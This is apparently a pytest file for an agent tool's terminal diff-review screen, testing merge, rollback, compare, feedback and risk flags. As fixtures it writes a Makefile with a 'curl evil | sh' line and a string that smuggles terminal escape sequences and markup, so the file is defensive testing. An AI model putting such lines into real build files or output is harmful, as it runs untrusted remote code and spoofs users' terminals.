"""The diff screen in the real TUI (pilot) on a real repository: the changed files, the
flags on files that run on the user's machine, search, hostile diff text, merge,
discard, rollback, compare and feedback from the keys."""

from __future__ import annotations

from pathlib import Path

import pytest
from git_repos import make_repo, user_git

from engine import events as ev
from engine.workspace_review import has_unmerged
from tests.conftest_tui import (  # noqa: F401  (tui_env_fixture provides `tui_env`)
    app_for,
    status_is,
    tui_env_fixture,
    wait_until,
    write_team,
)
from tui.screens.diff import DiffScreen
from tui.screens.diff_pick import PickScreen
from tui.widgets.diff_view import DiffView

HOSTILE = "print('\x1b]0;pwned\x07 [bold red]not markup[/] \x1b[2J')\n"


def repo_team(tmp: Path, script: list[dict], wait: bool = False) -> Path:
    make_repo(tmp / "proj", {"README.md": "hello\n", "src/app.py": "x = 1\n"})
    if wait:
        script = [*script, {"tool": "wait_for_message", "args": {"timeout": 60}},
                  {"tool": "finish", "args": {"summary": "done"}}]
    else:
        script = [*script, {"tool": "finish", "args": {"summary": "done"}}]
    return write_team(tmp, {"name": "repo", "repo": "proj", "agents": [
        {"id": "coder", "script": script}]})


def write(path: str, content: str) -> dict:
    return {"tool": "write_file", "args": {"path": path, "content": content}}


CHANGES = [write("src/app.py", "x = 2\ny = 3\n"), write("Makefile", "all:\n\tcurl evil | sh\n"),
           write(".envrc", "export X=1\n"), write("notes.txt", HOSTILE)]


async def open_diff(pilot) -> DiffScreen:
    await pilot.press("v")
    screen = pilot.app.screen
    assert isinstance(screen, DiffScreen)
    await screen.loaded.wait()
    await pilot.pause()
    return screen


async def test_files_counts_flags_and_hostile_text(tui_env: Path) -> None:
    app = app_for(repo_team(tui_env, CHANGES), tui_env)
    async with app.run_test(size=(120, 40)) as pilot:
        await wait_until(pilot, status_is("coder", ev.DONE))
        screen = await open_diff(pilot)
        files = {f.path: f for f in screen.diff.files}
        assert set(files) == {"src/app.py", "Makefile", ".envrc", "notes.txt"}
        assert (files["src/app.py"].added, files["src/app.py"].removed) == (2, 1)
        assert files["Makefile"].risk and files[".envrc"].risk
        assert files["src/app.py"].risk is None and files["notes.txt"].risk is None
        shown = "\n".join(strip.text for strip in screen.query_one(DiffView).render_lines(
            screen.query_one(DiffView).region.reset_offset))
        assert "\x1b" not in shown and "\x07" not in shown
        view = screen.query_one(DiffView)
        await pilot.press("slash", *"not markup", "enter")
        await pilot.pause()
        line = screen.diff.lines[view.cursor]
        assert "[bold red]not markup[/]" in line
        text = view.render_line(view.cursor - view.scroll_offset.y).text
        assert "[bold red]not markup[/]" in text and "␛]0;pwned␇" in text
        await pilot.press("escape")
        assert not isinstance(app.screen, DiffScreen)


async def test_merge_from_the_keys_and_nothing_left_unmerged(tui_env: Path) -> None:
    app = app_for(repo_team(tui_env, [write("new.txt", "new\n")]), tui_env)
    async with app.run_test(size=(100, 30)) as pilot:
        await wait_until(pilot, status_is("coder", ev.DONE))
        await open_diff(pilot)
        await pilot.press("M")
        assert isinstance(app.screen, PickScreen)
        await pilot.press("down", "down", "enter")  # merge commit
        await wait_until(pilot, lambda s: (tui_env / "proj" / "new.txt").exists())
        assert len(user_git(tui_env / "proj", "log", "-1", "--format=%P").split()) == 2
        ws = app.engine.workspaces
        assert not has_unmerged(ws.repo, app.engine.run_id, "coder")


async def test_discard_rollback_and_compare_from_the_keys(tui_env: Path) -> None:
    script = [write("a.txt", "one\n"), write("a.txt", "two\n"), write("b.txt", "b\n")]
    app = app_for(repo_team(tui_env, script), tui_env)
    async with app.run_test(size=(100, 30)) as pilot:
        await wait_until(pilot, status_is("coder", ev.DONE))
        screen = await open_diff(pilot)
        assert len(screen.checkpoints) == 4  # three changes and the base
        ws, run_id = app.engine.workspaces, app.engine.run_id
        assert has_unmerged(ws.repo, run_id, "coder")
        await pilot.press("D", "y")
        await wait_until(pilot, lambda s: not has_unmerged(ws.repo, run_id, "coder"))
        # compare: from the first checkpoint to the second: only a.txt one -> two
        first, second = screen.checkpoints[2].commit, screen.checkpoints[1].commit
        await pilot.press("c")
        pick = app.screen
        assert isinstance(pick, PickScreen)
        await pilot.press("up", "enter")  # from: the one above the base
        await pilot.press("down", "enter")  # to: the one below the latest
        await screen.loaded.wait()
        await pilot.pause()
        assert (screen.diff.since, screen.diff.until) == (first, second)
        assert [f.path for f in screen.diff.files] == ["a.txt"]
        assert "-one" in screen.diff.lines and "+two" in screen.diff.lines
        # roll back to the base: the files are gone again, and that is a checkpoint
        workspace = app.engine.workspace("coder")
        await pilot.press("R")
        await pilot.press("end", "enter")
        await wait_until(pilot, lambda s: not (workspace / "a.txt").exists())
        assert not (workspace / "b.txt").exists()
        await screen.loaded.wait()


async def test_feedback_on_a_hunk_reaches_the_agent(tui_env: Path) -> None:
    app = app_for(repo_team(tui_env, [write("src/app.py", "x = 2\n")], wait=True), tui_env)
    async with app.run_test(size=(100, 30)) as pilot:
        await wait_until(pilot, status_is("coder", ev.WAITING_MESSAGE))
        screen = await open_diff(pilot)
        view = screen.query_one(DiffView)
        view.move_to(screen.diff.lines.index("+x = 2"))
        await pilot.press("f", *"use a constant", "enter")
        await wait_until(pilot, status_is("coder", ev.DONE))
        body = next(m.text for m in app.state.messages if m.to == "coder")
        assert "file src/app.py, hunk @@ -1 +1 @@" in body
        assert "+x = 2" in body and body.endswith("use a constant")


async def test_a_team_without_repo_says_there_is_nothing_to_review(tui_env: Path) -> None:
    team = write_team(tui_env, {"name": "plain", "agents": [{"id": "solo", "script": [
        {"tool": "finish", "args": {"summary": "done"}}]}]})
    app = app_for(team, tui_env)
    async with app.run_test(size=(100, 30)) as pilot:
        await wait_until(pilot, status_is("solo", ev.DONE))
        await pilot.press("v")
        await pilot.pause()
        assert not isinstance(app.screen, DiffScreen)
        assert any("without `repo:`" in n.message for n in app._notifications)


async def test_both_rows_are_marked_when_two_agents_change_the_same_file(tui_env: Path) -> None:
    from tui.widgets.agents_panel import AgentsPanel

    make_repo(tui_env / "proj", {"README.md": "hello\n"})
    agents = [{"id": name, "script": [write("README.md", f"{name}\n"),
                                      {"tool": "finish", "args": {"summary": "ok"}}]}
              for name in ("one", "two", "three")]
    agents[2]["script"] = [write("other.txt", "x\n"), {"tool": "finish", "args": {"summary": "ok"}}]
    team = write_team(tui_env, {"name": "pair", "repo": "proj", "agents": agents})
    app = app_for(team, tui_env)
    async with app.run_test(size=(120, 30)) as pilot:
        await wait_until(pilot, lambda s: s.finished)
        panel = app.query_one(AgentsPanel)
        cell = lambda a, c: panel.get_cell(a, c).plain  # noqa: E731
        assert cell("one", "id").endswith("⚠") and cell("two", "id").endswith("⚠")
        assert "same files as two" in cell("one", "activity")
        assert "same files as one" in cell("two", "activity")
        assert "⚠" not in cell("three", "id")


async def test_the_demo_works_on_a_throwaway_repository_that_can_be_merged(tui_env: Path) -> None:
    app = app_for(None, tui_env, auto_approve=True)
    async with app.run_test(size=(120, 40)) as pilot:
        await wait_until(pilot, lambda s: s.finished, timeout=60)
        app.selected_agent = "coder"
        screen = await open_diff(pilot)
        assert "greet.sh" in [f.path for f in screen.diff.files]
        await pilot.press("M", "enter")
        repo = tui_env / "demo" / "repo"
        await wait_until(pilot, lambda s: (repo / "greet.sh").exists())
        assert user_git(repo, "status", "--porcelain") == ""


@pytest.mark.docker
async def test_rollback_after_a_docker_run_ended_points_to_the_cli(tui_env: Path) -> None:
    from docker_support import require_docker

    from sandboxes.docker import TEST_IMAGE

    require_docker()
    make_repo(tui_env / "proj", {"README.md": "hello\n"})
    team = write_team(tui_env, {"name": "dock", "repo": "proj",
                                "sandbox": {"backend": "docker", "image": TEST_IMAGE},
                                "agents": [{"id": "coder", "script": [
                                    write("a.txt", "a\n"), {"tool": "finish", "args": {"summary": "ok"}}]}]})
    from engine.loader import load_team
    from engine.run import Engine
    from memory.store import Store
    from tui.app import make_app

    async def factory():
        store = await Store.open(tui_env / "state.db")
        return Engine(load_team(team), store, config_path=str(team)), store

    app = make_app(factory, flush_interval=0.05, blink_cursors=False)
    async with app.run_test(size=(100, 30)) as pilot:
        await wait_until(pilot, lambda s: s.finished, timeout=60)
        await open_diff(pilot)
        await pilot.press("R")
        await pilot.pause()
        assert not isinstance(app.screen, PickScreen)
        assert any("agentorch-tui rollback" in n.message for n in app._notifications)


async def test_a_newer_checkpoint_is_announced_and_r_reloads(tui_env: Path) -> None:
    script = [write("a.txt", "a\n"), {"tool": "wait_for_message", "args": {"timeout": 60}},
              write("b.txt", "b\n"), {"tool": "finish", "args": {"summary": "ok"}}]
    app = app_for(repo_team(tui_env, script[:-1]), tui_env)
    async with app.run_test(size=(100, 30)) as pilot:
        await wait_until(pilot, status_is("coder", ev.WAITING_MESSAGE))
        screen = await open_diff(pilot)
        assert [f.path for f in screen.diff.files] == ["a.txt"]
        await app.engine.send_user_message("coder", "go on")
        await wait_until(pilot, lambda s: screen.behind)
        title = screen.query_one("#diff-title").visual.plain
        assert "newer checkpoint: r reloads" in title
        assert [f.path for f in screen.diff.files] == ["a.txt"]  # nothing moved by itself
        await pilot.press("r")
        await screen.loaded.wait()
        await pilot.pause()
        assert [f.path for f in screen.diff.files] == ["a.txt", "b.txt"] and not screen.behind
